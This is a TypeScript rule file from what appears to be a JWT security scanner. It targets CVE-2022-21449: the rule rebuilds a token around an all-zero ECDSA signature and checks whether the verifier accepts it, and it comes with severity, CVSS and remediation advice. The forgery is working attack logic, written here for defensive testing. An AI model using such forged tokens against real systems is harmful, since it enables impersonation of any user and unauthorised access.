import { encodeJwt } from '../../material/jwt.ts';
import { forged } from '../forgery.ts';
import { defineRule } from '../rule.ts';

/** Bytes of r and s together (RFC 7518 section 3.4). */
const SIGNATURE_BYTES: Readonly<Record<string, number>> = { ES256: 64, ES384: 96, ES512: 132 };

export const jwtBlankEcdsaSignature = defineRule({
  id: 'jwt-blank-ecdsa-signature',
  title: 'Psychic signature accepted (CVE-2022-21449)',
  aliases: ['ECDSA zero signature', 'blank signature', 'CVE-2022-21449', 'Java ECDSA'],
  severity: 'critical',
  cwe: [347],
  cvss: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  description:
    'Anyone can sign tokens for any user. The verifier accepts r = s = 0 as a valid signature of any content (CVE-2022-21449, Java 15 to 18).',
  remediation:
    'Update the runtime or the library. Reject signatures whose r or s is not between 1 and the order of the curve.',
  needs: ['identity'],
  ...forged(
    (jwt) => {
      const signature = Buffer.alloc(SIGNATURE_BYTES[String(jwt.header.alg)] ?? 0).toString('base64url');
      return [
        {
          token: encodeJwt(jwt.header, jwt.payload, { kind: 'keep', signature }),
          what: 'with an all-zero signature',
        },
      ];
    },
    ({ header }) =>
      String(header.alg) in SIGNATURE_BYTES ? undefined : 'the token is not signed with ECDSA',
  ),
});
